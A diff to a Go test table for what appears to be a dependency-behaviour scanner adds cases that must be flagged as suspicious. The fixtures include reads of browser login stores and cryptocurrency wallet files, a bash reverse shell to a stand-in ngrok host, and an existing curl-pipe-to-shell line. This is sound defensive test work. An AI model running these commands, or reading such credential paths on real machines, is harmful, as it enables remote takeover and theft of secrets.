@@ -89,6 +89,9 @@ func TestRules(t *testing.T) {
 		{"bait dotenv variant", prof(dep("a", invoke(profile.Behavior{Files: []profile.File{read("/var/task/.env.production")}}))), []string{"DBX005"}},
 		{"bait environ", prof(dep("a", invoke(profile.Behavior{Files: []profile.File{read("/proc/self/environ"), read("/proc/1/environ")}}))), []string{"DBX005"}},
 		{"bait shadow", prof(dep("a", install(profile.Behavior{Files: []profile.File{{Path: "/etc/shadow", Access: "read-write"}}}))), []string{"DBX005", "DBX012"}},
+		{"bait browser stores", prof(dep("a", invoke(profile.Behavior{Files: []profile.File{read("/home/sbx_user/.config/google-chrome/Default/Login Data"), read("/home/sbx_user/.config/google-chrome/Local State"), read("/home/sbx_user/.mozilla/firefox/x.default/key4.db")}}))), []string{"DBX005"}},
+		{"bait wallets", prof(dep("a", invoke(profile.Behavior{Files: []profile.File{read("/home/sbx_user/.electrum/wallets/default_wallet"), read("/home/sbx_user/.bitcoin/wallet.dat"), read("/home/sbx_user/.config/solana/id.json")}}))), []string{"DBX005"}},
+		{"not bait browser-like names", prof(dep("a", invoke(profile.Behavior{Files: []profile.File{read("/var/task/node_modules/tough-cookie/Cookies"), read("/var/task/data/Local State"), read("/var/task/wallet.js"), read("/tmp/solana/id.json")}}))), nil},
 		{"not bait", prof(dep("a", invoke(profile.Behavior{Files: []profile.File{read("/var/task/.envrc"), read("/var/task/environment.js"), read("/etc/passwd")}}))), nil},
 		{"secret env and network", prof(dep("a", invoke(profile.Behavior{Env: []string{"AWS_SECRET_ACCESS_KEY"}, Network: []profile.Endpoint{tcp("192.0.2.10", "", 443)}}))), []string{"DBX006"}},
 		{"secret env across phases", prof(dep("a", phases{
@@ -105,6 +108,7 @@ func TestRules(t *testing.T) {
 		{"powershell", prof(dep("a", invoke(profile.Behavior{Processes: []profile.Process{proc("PowerShell.exe", "-enc", "AAA")}}))), []string{"DBX007"}},
 		{"node script", prof(dep("a", invoke(profile.Behavior{Processes: []profile.Process{proc("node", "worker.js")}}))), nil},
 		{"install script runner", prof(dep("a", install(profile.Behavior{Processes: []profile.Process{proc("sh", "-c", "node-gyp rebuild")}}))), nil},
+		{"install reverse shell", prof(dep("a", install(profile.Behavior{Processes: []profile.Process{proc("/bin/sh", "-c", "bash -c 'bash -i >& /dev/tcp/4.tcp.ngrok.invalid/11425 0>&1' || true"), proc("bash", "-c", "bash -i >& /dev/tcp/4.tcp.ngrok.invalid/11425 0>&1")}}))), []string{"DBX007"}},
 		{"install build", prof(dep("a", install(profile.Behavior{Processes: []profile.Process{proc("sh", "-c", "node-gyp rebuild"), proc("node-gyp", "rebuild")}}))), []string{"DBX009"}},
 		{"install curl", prof(dep("a", install(profile.Behavior{Processes: []profile.Process{proc("sh", "-c", "curl -s https://x.invalid | sh"), proc("curl", "-s", "https://x.invalid"), proc("sh")}}))), []string{"DBX007", "DBX009"}},
 		{"install network", prof(dep("a", install(profile.Behavior{Network: []profile.Endpoint{tcp("10.53.0.2", "x.invalid", 443)}}))), []string{"DBX008"}},
